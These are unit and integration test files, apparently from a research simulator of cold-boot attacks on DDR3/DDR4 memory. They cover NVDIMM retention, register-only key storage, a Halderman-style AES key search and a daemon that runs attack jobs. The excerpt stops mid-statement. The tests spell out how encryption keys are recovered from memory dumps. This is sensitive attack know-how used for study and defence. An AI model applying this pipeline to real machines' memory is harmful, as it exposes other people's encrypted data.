#include "attack/ddr3_attack.hh"
#include "attack/halderman_search.hh"
#include "common/rng.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "dram/dram_module.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

namespace coldboot
{
namespace
{

using attack::BaselineParams;
using attack::haldermanSearch;
using dram::DramModule;
using dram::Media;
using platform::BiosConfig;
using platform::cpuModelByName;
using platform::Machine;
using platform::MemoryImage;

//
// Non-volatile DIMMs
//

TEST(Nvdimm, NeverDecays)
{
    DramModule nv(dram::Generation::DDR4, MiB(1), {}, 1, "nvdimm",
                  Media::NonVolatileDimm);
    std::vector<uint8_t> data(MiB(1), 0xa7);
    nv.write(0, data);
    nv.powerOff();
    nv.coolTo(60.0); // hot, even
    EXPECT_EQ(nv.elapse(3600.0), 0u);
    EXPECT_DOUBLE_EQ(nv.retentionVersus(data), 1.0);
}

TEST(Nvdimm, AttackNeedsNoCooling)
{
    // The paper's motivation: with NVDIMMs the attacker skips the
    // freezer spray entirely and loses nothing in transit.
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 11);
    victim.installDimm(
        0, std::make_shared<DramModule>(dram::Generation::DDR4,
                                        MiB(4), dram::DecayParams{},
                                        12, "nvdimm",
                                        Media::NonVolatileDimm));
    victim.boot();
    platform::fillWorkload(victim, {}, 13);
    auto vf = volume::VolumeFile::create("pw", 8, 14);
    auto mounted =
        volume::MountedVolume::mount(victim, vf, "pw", MiB(3) + 16);
    ASSERT_TRUE(mounted);
    std::vector<uint8_t> expected(mounted->masterKeys().begin(),
                                  mounted->masterKeys().end());

    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     15);
    platform::ColdBootParams params;
    params.cool_first = false;       // no spray
    params.transfer_seconds = 600.0; // ten leisurely minutes
    auto cold = platform::coldBootTransfer(victim, attacker, 0,
                                           params);
    EXPECT_EQ(cold.bits_flipped, 0u);

    attack::PipelineParams pp;
    pp.search.scan_start = MiB(3) - KiB(64);
    pp.search.scan_bytes = KiB(128);
    auto report = attack::runColdBootAttack(cold.dump, pp);
    ASSERT_GE(report.xts_pairs.size(), 1u);
    EXPECT_EQ(memcmp(report.xts_pairs[0].data_key.data(),
                     expected.data(), 32),
              0);
}

//
// Register-only key storage
//

TEST(RegisterKeys, VolumeWorksWithoutRamFootprint)
{
    Machine m(cpuModelByName("i5-6400"), BiosConfig{}, 1, 21);
    m.installDimm(0, std::make_shared<DramModule>(
                         dram::Generation::DDR4, MiB(1),
                         dram::DecayParams{}, 22));
    m.boot();
    MemoryImage before = m.dumpMemory();

    auto vf = volume::VolumeFile::create("pw", 8, 23);
    auto mounted = volume::MountedVolume::mount(
        m, vf, "pw", KiB(512), volume::KeyStorage::Registers);
    ASSERT_TRUE(mounted);
    EXPECT_EQ(mounted->keyStorage(), volume::KeyStorage::Registers);

    // Sector I/O still works...
    std::vector<uint8_t> data(volume::sectorBytes, 0x3f), back(
        volume::sectorBytes);
    mounted->writeSector(2, data);
    mounted->readSector(2, back);
    EXPECT_EQ(back, data);

    // ...and machine memory is untouched by the mount.
    MemoryImage after = m.dumpMemory();
    EXPECT_EQ(before.identicalLines(after), before.lines());
}

TEST(RegisterKeys, ColdBootAttackFindsNothing)
{
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 31);
    victim.installDimm(0, std::make_shared<DramModule>(
                              dram::Generation::DDR4, MiB(2),
                              dram::DecayParams{}, 32));
    victim.boot();
    platform::fillWorkload(victim, {}, 33);
    auto vf = volume::VolumeFile::create("pw", 8, 34);
    auto mounted = volume::MountedVolume::mount(
        victim, vf, "pw", MiB(1) + 16, volume::KeyStorage::Registers);
    ASSERT_TRUE(mounted);

    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     35);
    auto cold = platform::coldBootTransfer(victim, attacker, 0);
    auto report = attack::runColdBootAttack(cold.dump, {});
    EXPECT_TRUE(report.recovered.empty());
}

//
// Halderman baseline search
//

TEST(Halderman, FindsKeyInPlaintextImage)
{
    Xoshiro256StarStar rng(41);
    MemoryImage image(KiB(256));
    rng.fillBytes(image.bytesMutable());

    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);
    uint64_t off = KiB(100) + 24; // arbitrary byte alignment
    memcpy(image.bytesMutable().data() + off, sched.data(),
           sched.size());

    auto found = haldermanSearch(image);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].master, key);
    EXPECT_EQ(found[0].offset, off);
    EXPECT_EQ(found[0].bit_errors, 0u);
}

TEST(Halderman, ToleratesDecayInTheTail)
{
    Xoshiro256StarStar rng(42);
    MemoryImage image(KiB(64));
    rng.fillBytes(image.bytesMutable());
    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);
    uint64_t off = KiB(32);
    auto bytes = image.bytesMutable();
    memcpy(bytes.data() + off, sched.data(), sched.size());
    // Flip bits in the expanded tail (not the raw key itself - the
    // baseline cannot survive window corruption, one of its known
    // weaknesses versus schedule-repairing reconstruction).
    for (int i = 0; i < 6; ++i)
        bytes[off + 40 + 30 * i] ^= 1;

    auto found = haldermanSearch(image);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].master, key);
    EXPECT_GT(found[0].bit_errors, 0u);
}

TEST(Halderman, MissesWhenWindowIsCorrupted)
{
    // The baseline's weakness the paper's method fixes: a single
    // flipped bit in the raw key region kills detection.
    Xoshiro256StarStar rng(43);
    MemoryImage image(KiB(64));
    rng.fillBytes(image.bytesMutable());
    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);
    uint64_t off = KiB(32);
    auto bytes = image.bytesMutable();
    memcpy(bytes.data() + off, sched.data(), sched.size());
    bytes[off + 5] ^= 0x10; // inside the raw key

    auto found = haldermanSearch(image);
    EXPECT_TRUE(found.empty());
}

TEST(Halderman, FailsDirectlyOnScrambledDdr4)
{
    // The gap the paper's attack closes: the baseline needs the
    // image descrambled first.
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 51);
    auto dimm = std::make_shared<DramModule>(dram::Generation::DDR4,
                                             MiB(1),
                                             dram::DecayParams{}, 52);
    victim.installDimm(0, dimm);
    victim.boot();
    std::vector<uint8_t> key(32, 0x5a);
    auto sched = crypto::aesExpandKey(key);
    victim.writePhysBytes(KiB(512), sched);

    MemoryImage raw(dimm->size());
    dimm->read(0, raw.bytesMutable());
    EXPECT_TRUE(haldermanSearch(raw).empty());
}

TEST(Halderman, WorksOnDdr3AfterUniversalKeyDescramble)
{
    // The DDR3 pipeline: universal-key descramble, then the classic
    // byte-sliding search - reproducing the Bauer et al. flow.
    Machine victim(cpuModelByName("i5-2540M"), BiosConfig{}, 1, 61);
    // Module seed chosen so no transit flip lands inside the 32-byte
    // search window - the happy case this baseline needs (its window
    // fragility is asserted by MissesWhenWindowIsCorrupted).
    victim.installDimm(0, std::make_shared<DramModule>(
                              dram::Generation::DDR3, MiB(1),
                              dram::DecayParams{}, 65));
    victim.boot();
    platform::fillWorkload(victim, {}, 63);
    std::vector<uint8_t> key(32, 0xc3);
    auto sched = crypto::aesExpandKey(key);
    victim.writePhysBytes(KiB(700) + 8, sched);

    Machine attacker(cpuModelByName("i5-2430M"), BiosConfig{}, 1, 64);
    // The baseline cannot survive flips inside its 32-byte window
    // (see MissesWhenWindowIsCorrupted), so give it the best case it
    // was designed for: a fast, well-cooled transfer.
    platform::ColdBootParams quick;
    quick.transfer_seconds = 0.3;
    auto cold = platform::coldBootTransfer(victim, attacker, 0,
                                           quick);

    auto universal = attack::recoverDdr3UniversalKey(cold.dump);
    attack::descrambleWithUniversalKey(cold.dump, universal);

    BaselineParams params;
    params.max_bit_errors = 160; // decay tolerance
    auto found = haldermanSearch(cold.dump, params);
    bool hit = false;
    for (const auto &k : found)
        hit = hit || k.master == key;
    EXPECT_TRUE(hit);
}

//
// Dump file round trip
//

TEST(MemoryImageIo, SaveLoadRoundTrip)
{
    Xoshiro256StarStar rng(71);
    MemoryImage img(KiB(16));
    rng.fillBytes(img.bytesMutable());
    img.saveRaw("/tmp/cb_io_test.img");
    MemoryImage back = MemoryImage::loadRaw("/tmp/cb_io_test.img");
    ASSERT_EQ(back.size(), img.size());
    EXPECT_EQ(0, memcmp(back.bytes().data(), img.bytes().data(),
                        img.size()));
    std::remove("/tmp/cb_io_test.img");
}

TEST(MemoryImageIo, LoadRejectsBadSize)
{
    FILE *f = fopen("/tmp/cb_io_bad.img", "wb");
    ASSERT_NE(f, nullptr);
    fputs("short", f);
    fclose(f);
    EXPECT_DEATH(MemoryImage::loadRaw("/tmp/cb_io_bad.img"),
                 "multiple of 64");
    std::remove("/tmp/cb_io_bad.img");
}

} // anonymous namespace
} // namespace coldboot
