/**
 * @file
 * Unit tests for src/common: bit helpers, hex, RNG determinism.
 */

#include <gtest/gtest.h>

#include <cstdint>
#include <set>
#include <vector>

#include "common/bits.hh"
#include "common/hex.hh"
#include "common/rng.hh"
#include "common/units.hh"

namespace coldboot
{
namespace
{

TEST(Bits, Popcount64)
{
    EXPECT_EQ(popcount64(0), 0);
    EXPECT_EQ(popcount64(~0ULL), 64);
    EXPECT_EQ(popcount64(0x8000000000000001ULL), 2);
}

TEST(Bits, HammingDistanceBasic)
{
    std::vector<uint8_t> a{0x00, 0xff, 0x0f};
    std::vector<uint8_t> b{0x00, 0x00, 0xff};
    EXPECT_EQ(hammingDistance(a, b), 0u + 8u + 4u);
}

TEST(Bits, HammingDistanceSelfIsZero)
{
    std::vector<uint8_t> a(100);
    for (size_t i = 0; i < a.size(); ++i)
        a[i] = static_cast<uint8_t>(i * 37);
    EXPECT_EQ(hammingDistance(a, a), 0u);
}

TEST(Bits, HammingDistanceLongRangeMatchesByteSum)
{
    // Cross-check the 8-byte-at-a-time fast path against a per-byte
    // reference on a length that exercises both paths (not 8-aligned).
    Xoshiro256StarStar rng(7);
    std::vector<uint8_t> a(1003), b(1003);
    rng.fillBytes(a);
    rng.fillBytes(b);
    size_t ref = 0;
    for (size_t i = 0; i < a.size(); ++i)
        ref += static_cast<size_t>(
            popcount64(static_cast<uint8_t>(a[i] ^ b[i])));
    EXPECT_EQ(hammingDistance(a, b), ref);
}

TEST(Bits, HammingWeight)
{
    std::vector<uint8_t> a{0xff, 0x01, 0x00, 0x80};
    EXPECT_EQ(hammingWeight(a), 10u);
}

TEST(Bits, BitsOf)
{
    EXPECT_EQ(bitsOf(0xdeadbeef, 7, 0), 0xefu);
    EXPECT_EQ(bitsOf(0xdeadbeef, 15, 8), 0xbeu);
    EXPECT_EQ(bitsOf(0xffffffffffffffffULL, 63, 0), ~0ULL);
}

TEST(Bits, LoadStoreRoundTrip)
{
    uint8_t buf[8];
    storeLE64(buf, 0x0123456789abcdefULL);
    EXPECT_EQ(loadLE64(buf), 0x0123456789abcdefULL);
    EXPECT_EQ(loadLE32(buf), 0x89abcdefu);
    EXPECT_EQ(loadLE16(buf), 0xcdefu);
    EXPECT_EQ(buf[0], 0xef);
    EXPECT_EQ(buf[7], 0x01);
}

TEST(Bits, XorBytes)
{
    std::vector<uint8_t> dst{0xaa, 0x55, 0xff};
    std::vector<uint8_t> src{0xff, 0xff, 0xff};
    xorBytes(dst, src);
    EXPECT_EQ(dst, (std::vector<uint8_t>{0x55, 0xaa, 0x00}));
}

TEST(Hex, RoundTrip)
{
    std::vector<uint8_t> data{0x00, 0x1b, 0xff, 0x7f};
    EXPECT_EQ(toHex(data), "001bff7f");
    EXPECT_EQ(fromHex("001bff7f"), data);
    EXPECT_EQ(fromHex("001BFF7F"), data);
}

TEST(Hex, HexDumpShape)
{
    std::vector<uint8_t> data(20, 0x41);
    std::string dump = hexDump(data, 0x1000);
    EXPECT_NE(dump.find("00001000"), std::string::npos);
    EXPECT_NE(dump.find("|AAAA|"), std::string::npos);
}

TEST(Rng, SplitMixKnownSequence)
{
    // Reference values for seed 1234567 from the canonical
    // splitmix64.c reference implementation.
    SplitMix64 sm(0);
    uint64_t first = sm.next();
    SplitMix64 sm2(0);
    EXPECT_EQ(sm2.next(), first);
    EXPECT_NE(sm.next(), first);
}

TEST(Rng, XoshiroDeterministic)
{
    Xoshiro256StarStar a(42), b(42);
    for (int i = 0; i < 100; ++i)
        EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, XoshiroSeedsDiffer)
{
    Xoshiro256StarStar a(1), b(2);
    int same = 0;
    for (int i = 0; i < 64; ++i)
        same += (a.next() == b.next());
    EXPECT_EQ(same, 0);
}

TEST(Rng, NextDoubleInUnitInterval)
{
    Xoshiro256StarStar rng(9);
    for (int i = 0; i < 10000; ++i) {
        double d = rng.nextDouble();
        EXPECT_GE(d, 0.0);
        EXPECT_LT(d, 1.0);
    }
}

TEST(Rng, NextBelowBounds)
{
    Xoshiro256StarStar rng(5);
    std::set<uint64_t> seen;
    for (int i = 0; i < 1000; ++i) {
        uint64_t v = rng.nextBelow(7);
        EXPECT_LT(v, 7u);
        seen.insert(v);
    }
    // All residues should appear over 1000 draws.
    EXPECT_EQ(seen.size(), 7u);
}

TEST(Rng, FillBytesCoversOddLengths)
{
    Xoshiro256StarStar rng(11);
    std::vector<uint8_t> buf(13, 0);
    rng.fillBytes(buf);
    // Chance of any byte being zero is small but possible; require
    // that not all bytes are zero.
    size_t nonzero = 0;
    for (uint8_t b : buf)
        nonzero += (b != 0);
    EXPECT_GT(nonzero, 0u);
}

TEST(Rng, ChanceExtremes)
{
    Xoshiro256StarStar rng(3);
    for (int i = 0; i < 100; ++i) {
        EXPECT_FALSE(rng.chance(0.0));
        EXPECT_TRUE(rng.chance(1.0));
    }
}

TEST(Units, Conversions)
{
    EXPECT_EQ(nsToPs(12.5), 12500);
    EXPECT_DOUBLE_EQ(psToNs(12500), 12.5);
    EXPECT_EQ(periodPsFromGHz(2.0), 500);
    EXPECT_EQ(periodPsFromGHz(2.4), 417);
    EXPECT_EQ(MiB(1), 1048576ull);
    EXPECT_EQ(KiB(4), 4096ull);
}

} // anonymous namespace
} // namespace coldboot
