/**
 * @file
 * Seeded decay-sweep regression: the full mine → search pipeline's
 * success-rate curve over decay fraction must match the EXPERIMENTS.md
 * "Decay-sweep regression baseline" table within tolerance, and must
 * be identical between a serial run and a 4-worker pool (the same
 * dedicated-pool path COLDBOOT_THREADS drives; DESIGN.md §9).
 *
 * The curve is the paper's central robustness claim in miniature:
 * recovery through cooled-transfer decay rates (~2 %), degrading as
 * decay approaches the litmus/repair budgets.
 */

#include <gtest/gtest.h>

#include <cstdio>
#include <vector>

#include "attack/aes_search.hh"
#include "attack/key_miner.hh"
#include "fuzz/dump_builder.hh"
#include "fuzz/fuzz_rng.hh"
#include "platform/memory_image.hh"

namespace coldboot
{
namespace
{

constexpr int kTrials = 10;
/** Allowed per-point drift from the recorded baseline. Anything
 *  larger means the recovery stack materially changed - re-measure
 *  and update EXPERIMENTS.md in the same commit. */
constexpr int kTolerance = 2;

struct SweepPoint
{
    double fraction;
    int baseline_successes; // EXPERIMENTS.md, out of kTrials
};

/**
 * The EXPERIMENTS.md "Decay-sweep regression baseline" table. The
 * fractions are *visible* flip fractions (roughly 2x the cell-decay
 * fraction, since only cells off their ground state flip visibly),
 * so 0.02 here corresponds to a harsher transfer than E11's "2 %
 * decay" ablation point.
 */
const SweepPoint kBaseline[] = {
    {0.00, 10},
    {0.01, 10},
    {0.02, 10},
    {0.03, 2},
    {0.04, 0},
};

/** Successes out of kTrials at each baseline fraction. */
std::vector<int>
runSweep(unsigned threads)
{
    std::vector<int> successes;
    for (size_t fi = 0; fi < std::size(kBaseline); ++fi) {
        int ok = 0;
        for (int trial = 0; trial < kTrials; ++trial) {
            fuzz::CaseRng rng(fuzz::deriveCaseSeed(
                static_cast<uint64_t>(trial), "decay-sweep", fi));
            fuzz::FuzzDumpSpec spec;
            spec.bytes = 64 * 1024;
            spec.planted_keys = 3;
            spec.copies_per_key = 3;
            spec.plant_schedule = true;
            spec.decay_fraction = kBaseline[fi].fraction;
            fuzz::FuzzDump dump = fuzz::buildFuzzDump(rng, spec);

            platform::MemoryImage image(dump.bytes);
            attack::MinerParams mp;
            mp.threads = threads;
            auto mined = attack::mineScramblerKeys(image, mp);

            attack::SearchParams sp;
            sp.threads = threads;
            auto keys = attack::searchAesKeyTables(image, mined, sp);
            for (const auto &key : keys)
                if (key.master == dump.schedule->master) {
                    ++ok;
                    break;
                }
        }
        successes.push_back(ok);
    }
    return successes;
}

TEST(DecaySweep, SuccessCurveMatchesBaselineAtAnyPoolWidth)
{
    std::vector<int> serial = runSweep(1);
    for (size_t fi = 0; fi < std::size(kBaseline); ++fi) {
        std::printf("decay %.2f: %d/%d recovered (baseline %d)\n",
                    kBaseline[fi].fraction, serial[fi], kTrials,
                    kBaseline[fi].baseline_successes);
        EXPECT_NEAR(serial[fi], kBaseline[fi].baseline_successes,
                    kTolerance)
            << "decay fraction " << kBaseline[fi].fraction;
    }

    // Recovery must be perfect with no decay and still strong at the
    // paper's cooled-transfer rate (~2 %), independent of baseline
    // drift within tolerance.
    EXPECT_EQ(serial[0], kTrials);
    EXPECT_GE(serial[2], kTrials - 2);

    // The same sweep on a dedicated 4-worker pool must reproduce the
    // curve exactly - not statistically (ordered chunk reduction,
    // DESIGN.md §9).
    std::vector<int> pooled = runSweep(4);
    EXPECT_EQ(serial, pooled);
}

} // anonymous namespace
} // namespace coldboot
