/**
 * @file
 * Pure-ctest smoke test for the analysis-job service (no Python):
 * build a tiny cold-boot dump in-process, start `coldboot-served
 * --port 127.0.0.1:0` as a subprocess, and drive it with
 * coldboot-client subprocesses:
 *
 *  - read the announced ephemeral port from the daemon's stdout;
 *  - a second daemon on the same port must fail fast with the
 *    actionable EADDRINUSE message;
 *  - run three concurrent jobs (attack, mine, descramble) and require
 *    each result byte-identical to the one-shot coldboot-tool output
 *    for the same dump - including a byte compare of the descrambled
 *    images;
 *  - cancel a running job mid-flight and watch it reach `cancelled`
 *    without disturbing anything else;
 *  - SIGTERM the daemon while a job is in flight: it must drain,
 *    flush the --stats-json artifact and exit 128+SIGTERM, with the
 *    serve.jobs.* counters accounting for every submission.
 *
 * Usage: smoke_serve <coldboot-served> <coldboot-client>
 *        <coldboot-tool>
 */

#include <csignal>
#include <sys/types.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "common/rng.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "memctrl/scrambler.hh"
#include "obs/json.hh"

using namespace coldboot;

namespace
{

int failures = 0;

void
check(bool ok, const char *what)
{
    if (!ok) {
        std::fprintf(stderr, "FAIL: %s\n", what);
        ++failures;
    } else {
        std::printf("ok: %s\n", what);
    }
}

/**
 * Dump with @p planted scrambler keys (x @p copies) and one planted
 * XTS keytable (two AES-256 schedules back to back, scrambled with
 * key 1) - the attack recovers a full master key pair from it, so
 * the byte-identity gates below compare real key output, not just a
 * "nothing found" summary.
 */
void
writeAttackDump(const std::string &dump_path, size_t len,
                unsigned planted = 4, unsigned copies = 6)
{
    std::vector<uint8_t> bytes(len);
    Xoshiro256StarStar rng(0x5EED);
    rng.fillBytes(bytes);
    size_t lines = len / 64;

    memctrl::Ddr4Scrambler scr(0xBEEF, 0);
    std::vector<std::array<uint8_t, 64>> keys(planted);
    for (unsigned k = 0; k < planted; ++k) {
        scr.poolKey(k * 61 % 4096, keys[k].data());
        for (unsigned copy = 0; copy < copies; ++copy) {
            size_t line = (k * copies + copy + 11) * 397 % lines;
            std::memcpy(&bytes[line * 64], keys[k].data(), 64);
        }
    }

    std::vector<uint8_t> master(64);
    Xoshiro256StarStar key_rng(0x1234);
    key_rng.fillBytes(master);
    auto data_sched = crypto::aesExpandKey({master.data(), 32});
    auto tweak_sched = crypto::aesExpandKey({master.data() + 32, 32});
    uint64_t table_off = (lines / 3) * 64;
    auto plant = [&](const std::vector<uint8_t> &sched,
                     uint64_t off) {
        for (size_t i = 0; i < sched.size(); ++i)
            bytes[off + i] = sched[i] ^ keys[1][(off + i) & 63];
    };
    plant(data_sched, table_off);
    plant(tweak_sched, table_off + data_sched.size());

    std::FILE *f = std::fopen(dump_path.c_str(), "wb");
    if (f != nullptr) {
        std::fwrite(bytes.data(), 1, bytes.size(), f);
        std::fclose(f);
    }
}

/** Run @p cmd, capture stdout; rc -1 on launch failure. */
int
runCapture(const std::string &cmd, std::string &output)
{
    output.clear();
    std::FILE *pipe = popen(cmd.c_str(), "r");
    if (pipe == nullptr)
        return -1;
    char buf[4096];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof(buf), pipe)) > 0)
        output.append(buf, n);
    return pclose(pipe);
}

/**
 * The deterministic portion of an attack result: the
 * mined/recovered/pair counts (the CLI appends its timing tail to the
 * same line, so the summary is cut at "XTS pair(s);") plus the
 * recovered key material.
 */
std::string
filterAttack(const std::string &output)
{
    std::string result;
    size_t pos = 0;
    while (pos < output.size()) {
        size_t eol = output.find('\n', pos);
        if (eol == std::string::npos)
            eol = output.size();
        std::string line = output.substr(pos, eol - pos);
        pos = eol + 1;
        if (line.rfind("mined ", 0) == 0) {
            size_t cut = line.find("XTS pair(s);");
            if (cut != std::string::npos)
                line.resize(cut + std::strlen("XTS pair(s);"));
            result += line + "\n";
        } else if (line.rfind("XTS master keys", 0) == 0 ||
                   line.rfind("  data :", 0) == 0 ||
                   line.rfind("  tweak:", 0) == 0) {
            result += line + "\n";
        }
    }
    return result;
}

/** The deterministic portion of a mine result: scan summary + keys
 *  (the CLI appends a stats table the service result omits). */
std::string
filterMine(const std::string &output)
{
    std::string result;
    size_t pos = 0;
    while (pos < output.size()) {
        size_t eol = output.find('\n', pos);
        if (eol == std::string::npos)
            eol = output.size();
        std::string line = output.substr(pos, eol - pos);
        pos = eol + 1;
        if (line.rfind("scanned ", 0) == 0 ||
            line.rfind("#", 0) == 0)
            result += line + "\n";
    }
    return result;
}

std::string
readFileBytes(const std::string &path)
{
    std::string bytes;
    std::FILE *f = std::fopen(path.c_str(), "rb");
    if (f == nullptr)
        return bytes;
    char buf[1 << 16];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof(buf), f)) > 0)
        bytes.append(buf, n);
    std::fclose(f);
    return bytes;
}

/** First line of @p output starting with @p prefix ("" if none). */
std::string
lineWithPrefix(const std::string &output, const char *prefix)
{
    size_t pos = 0;
    while (pos < output.size()) {
        size_t eol = output.find('\n', pos);
        if (eol == std::string::npos)
            eol = output.size();
        std::string line = output.substr(pos, eol - pos);
        pos = eol + 1;
        if (line.rfind(prefix, 0) == 0)
            return line;
    }
    return "";
}

/** stats-JSON "value" of one stat entry; -1 when absent. */
double
statValue(const obs::json::Value &doc, const char *name)
{
    const auto *tree = doc.find("stats");
    const auto *entry = tree ? tree->find(name) : nullptr;
    const auto *value = entry ? entry->find("value") : nullptr;
    return value ? value->number : -1.0;
}

/** The daemon subprocess: pid + announced port, stdout on a pipe. */
struct Daemon
{
    std::FILE *pipe = nullptr;
    pid_t pid = 0;
    uint16_t port = 0;
};

/**
 * Launch coldboot-served on an ephemeral port under a shell that
 * reports the daemon's pid (for SIGTERM) and, once it exits, its
 * status - so the drain path's exit code is observable through the
 * same pipe as the port announcement.
 */
Daemon
launchDaemon(const std::string &served, const std::string &stats_path)
{
    Daemon d;
    std::string cmd = "\"" + served +
                      "\" --port 127.0.0.1:0 --max-jobs 3"
                      " --stats-json \"" +
                      stats_path +
                      "\" 2>/dev/null & echo \"daemonpid $!\";"
                      " wait $!; echo \"daemonrc $?\"";
    std::printf("+ %s\n", cmd.c_str());
    d.pipe = popen(cmd.c_str(), "r");
    if (d.pipe == nullptr)
        return d;
    char line[512];
    while ((d.pid == 0 || d.port == 0) &&
           std::fgets(line, sizeof(line), d.pipe) != nullptr) {
        if (std::strncmp(line, "daemonpid ", 10) == 0)
            d.pid = static_cast<pid_t>(std::atoi(line + 10));
        const char *marker = "serving analysis jobs on 127.0.0.1:";
        const char *hit = std::strstr(line, marker);
        if (hit != nullptr)
            d.port =
                static_cast<uint16_t>(std::atoi(hit + strlen(marker)));
    }
    return d;
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    if (argc < 4) {
        std::fprintf(stderr, "usage: smoke_serve <coldboot-served> "
                             "<coldboot-client> <coldboot-tool>\n");
        return 2;
    }
    const std::string served = argv[1];
    const std::string client = argv[2];
    const std::string tool = argv[3];

    const std::string dump_path = "smoke_serve_dump.img";
    const std::string slow_path = "smoke_serve_slow_dump.img";
    const std::string stats_path = "smoke_serve_stats.json";
    const std::string cli_plain = "smoke_serve_cli_plain.img";
    const std::string srv_plain = "smoke_serve_srv_plain.img";
    std::remove(stats_path.c_str());
    writeAttackDump(dump_path, MiB(4));
    // Many planted keys make mining + search slow enough that the
    // cancel and SIGTERM legs below always land mid-job.
    writeAttackDump(slow_path, MiB(16), 64, 4);

    // One-shot CLI references for the byte-identity gates.
    std::string cli_attack, cli_mine, cli_descramble;
    int rc = runCapture("\"" + tool + "\" attack \"" + dump_path +
                            "\" 2>/dev/null",
                        cli_attack);
    check(rc == 0, "one-shot attack succeeded");
    std::string ref_attack = filterAttack(cli_attack);
    check(ref_attack.find("XTS master keys") != std::string::npos,
          "one-shot attack recovered keys");
    rc = runCapture("\"" + tool + "\" mine \"" + dump_path +
                        "\" 2>/dev/null",
                    cli_mine);
    check(rc == 0, "one-shot mine succeeded");
    std::string ref_mine = filterMine(cli_mine);
    rc = runCapture("\"" + tool + "\" descramble \"" + dump_path +
                        "\" \"" + cli_plain + "\" 2>/dev/null",
                    cli_descramble);
    check(rc == 0, "one-shot descramble succeeded");
    check(lineWithPrefix(cli_descramble, "sha256 ").size() > 7,
          "one-shot descramble reported a digest");

    // The daemon, on an ephemeral port announced via stdout.
    Daemon daemon = launchDaemon(served, stats_path);
    check(daemon.pipe != nullptr, "daemon subprocess launched");
    check(daemon.pid > 0, "daemon pid reported");
    check(daemon.port != 0, "ephemeral port announced on stdout");
    if (daemon.pipe == nullptr || daemon.port == 0)
        return 1;
    const std::string endpoint =
        "127.0.0.1:" + std::to_string(daemon.port);

    // Satellite: a second daemon on the same (now busy) port must die
    // fast with the actionable message, not hang or crash.
    {
        std::string out;
        int rc2 = runCapture("\"" + served + "\" --port " + endpoint +
                                 " 2>&1",
                             out);
        check(rc2 != 0 && rc2 != -1, "second daemon exits nonzero");
        check(out.find("address already in use") != std::string::npos,
              "EADDRINUSE names the busy endpoint");
    }

    // Three concurrent jobs, one per kind, through three concurrent
    // client processes - results must be byte-identical to the
    // one-shot CLI runs above.
    {
        struct LiveJob
        {
            const char *label;
            std::FILE *pipe;
            std::string output;
            int rc = -1;
        };
        std::vector<LiveJob> jobs;
        auto spawn = [&](const char *label, const std::string &args) {
            std::string cmd = "\"" + client + "\" " + endpoint + " " +
                              args + " 2>/dev/null";
            std::printf("+ %s\n", cmd.c_str());
            jobs.push_back({label, popen(cmd.c_str(), "r"), "", -1});
        };
        spawn("attack", "attack \"" + dump_path + "\"");
        spawn("mine", "mine \"" + dump_path + "\"");
        spawn("descramble", "descramble \"" + dump_path + "\" \"" +
                                srv_plain + "\"");
        for (auto &j : jobs) {
            check(j.pipe != nullptr, "client subprocess launched");
            if (j.pipe == nullptr)
                continue;
            char buf[4096];
            size_t n;
            while ((n = std::fread(buf, 1, sizeof(buf), j.pipe)) > 0)
                j.output.append(buf, n);
            j.rc = pclose(j.pipe);
            check(j.rc == 0, j.label);
        }

        check(filterAttack(jobs[0].output) == ref_attack,
              "served attack byte-identical to one-shot CLI");
        check(filterMine(jobs[1].output) == ref_mine,
              "served mine byte-identical to one-shot CLI");
        // The descramble renderings match except the `wrote <path>`
        // line (the two runs target different output files).
        check(lineWithPrefix(jobs[2].output, "descrambled ") ==
                      lineWithPrefix(cli_descramble, "descrambled ") &&
                  !lineWithPrefix(jobs[2].output, "descrambled ")
                       .empty(),
              "served descramble summary identical to CLI");
        check(lineWithPrefix(jobs[2].output, "sha256 ") ==
                      lineWithPrefix(cli_descramble, "sha256 ") &&
                  lineWithPrefix(jobs[2].output, "sha256 ").size() >
                      7,
              "served descramble digest identical to CLI");
        std::string a = readFileBytes(cli_plain);
        std::string b = readFileBytes(srv_plain);
        check(!a.empty() && a == b,
              "descrambled images byte-identical");
    }

    // Every job the daemon retains is done.
    {
        std::string out;
        rc = runCapture("\"" + client + "\" " + endpoint +
                            " list 2>/dev/null",
                        out);
        check(rc == 0, "list request served");
        size_t done = 0, pos = 0;
        while ((pos = out.find(" done ", pos)) != std::string::npos) {
            ++done;
            pos += 6;
        }
        check(done == 3, "list shows all three jobs done");
    }

    // Mid-job cancel: submit async, cancel while the attack runs,
    // and watch the job reach `cancelled`.
    {
        std::string out;
        rc = runCapture("\"" + client + "\" " + endpoint +
                            " attack \"" + slow_path +
                            "\" --async 2>/dev/null",
                        out);
        check(rc == 0 && out.rfind("job ", 0) == 0,
              "async submit prints the job id");
        uint64_t id = std::strtoull(out.c_str() + 4, nullptr, 10);
        rc = runCapture("\"" + client + "\" " + endpoint + " cancel " +
                            std::to_string(id) + " 2>/dev/null",
                        out);
        check(rc == 0 &&
                  out.find("cancel requested") != std::string::npos,
              "cancel accepted while the job was live");

        bool cancelled = false;
        auto deadline = std::chrono::steady_clock::now() +
                        std::chrono::seconds(60);
        while (std::chrono::steady_clock::now() < deadline) {
            rc = runCapture("\"" + client + "\" " + endpoint +
                                " status " + std::to_string(id) +
